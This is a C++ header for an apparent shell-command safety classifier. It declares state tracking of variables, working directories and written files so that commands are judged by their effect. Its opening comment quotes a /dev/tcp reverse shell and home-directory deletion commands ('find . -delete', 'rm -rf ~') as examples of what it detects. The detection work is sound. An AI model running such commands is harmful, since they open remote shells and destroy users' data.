// What a script knows about itself as it runs, tracked the way bash would see it: the values
// its variables may hold, the directories `cd` may have taken it to, and the files it wrote
// (with their text when the script itself printed it). The classifier expands words and
// resolves paths through it, so `t=/dev/tcp/h/p; bash -i >& $t`, `cd ~ && find . -delete` and
// `echo 'rm -rf ~' > f; sh f` are judged by what they do, not by how they are spelled.
//
// Deliberately flow-insensitive where order is not certain: a variable may hold every value
// the script ever gives it (a branch not taken, a loop's later turn), and every directory a
// `cd` named is a directory a later command may run in. Over-approximating can only make a
// decision stricter.
#pragma once

#include <map>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "classifier/shell_syntax.hpp"

namespace paddock::classifier {

// Where relative paths start and what `~` is.
struct PathContext {
  std::vector<std::string> cwds;  // every directory a command may run in; "" = not known
  std::string home;               // absolute, or "" when not known
  std::string workdir;            // where the command line starts (the workspace); "" = not known
};

// A path as the kernel would reach it, from each possible working directory: `~`, `$HOME`,
// `.`/`..`, `//`, `/proc/self/root`, `/proc/<pid>/root` (the root), `/proc/self/cwd` (the
// working directory) and `/proc/<pid>/cwd` (another process's: taken as `/`, the worst case)
// resolved lexically. A relative path from an unknown directory stays relative (leading `..`
// kept). Quotes in a dynamic word's source text are dropped.
std::vector<std::string> resolve_path(std::string_view raw, const PathContext& where);

// The file a script wrote, as far as it can tell.
struct WrittenFile {
  std::optional<std::string> text;  // what was written, when the script printed it itself
  bool fetched = false;             // downloaded (curl -o, wget, `curl URL > f`)
};

class ScriptState {
 public:
  static constexpr std::size_t kMaxValues = 8;    // per variable; past it: not known
  static constexpr std::size_t kMaxVariants = 8;  // expansions of one command

  ScriptState(std::string cwd, std::string home, const std::map<std::string, std::string>& env);

  // Pass 1 over a script: every value any statement gives a variable.
  void learn_assignments(const std::vector<SimpleCommand>& commands);
  // `cd DIR`, `pushd DIR`, `cd` alone (home), `cd -` (not known): one more directory the
  // script may be in. `only_there`: the directories it may be in are DIR's alone (what a
  // wrapper like `env -C DIR` runs its command in).
  void change_directory(const std::vector<Word>& args, bool only_there = false);

  // Every value a word may have (at most kMaxVariants); a word whose value cannot be known is
  // returned as it is (dynamic). An unquoted expansion whose value holds blanks is split.
  std::vector<std::vector<Word>> expand(const Word& w) const;
  // The command's words expanded, one word list per combination (at most kMaxVariants).
  std::vector<std::vector<Word>> expand_all(const std::vector<Word>& words) const;
  // The values of a variable as bash would evaluate them in arithmetic (recursively named).
  const std::vector<std::optional<std::string>>* values(const std::string& name) const;

  const PathContext& paths() const { return paths_; }
  void wrote(const std::string& path, WrittenFile f);
  const WrittenFile* written(const std::string& path) const;

  // PATH changed to search a directory the script or a command could fill (`.`, /tmp, a
  // relative directory) before the system's: later bare command names may be anything.
  bool path_hijacked() const { return path_hijacked_; }
  bool path_changed() const { return path_changed_; }

 private:
  void set(const std::string& name, std::optional<std::string> value);
  void assigned(const std::string& name, std::optional<std::string> value);
  std::string key(const std::string& path) const;

  std::map<std::string, std::vector<std::optional<std::string>>> vars_;  // nullopt: unknown
  PathContext paths_;
  std::map<std::string, WrittenFile> files_;
  bool path_hijacked_ = false;
  bool path_changed_ = false;
};

}  // namespace paddock::classifier
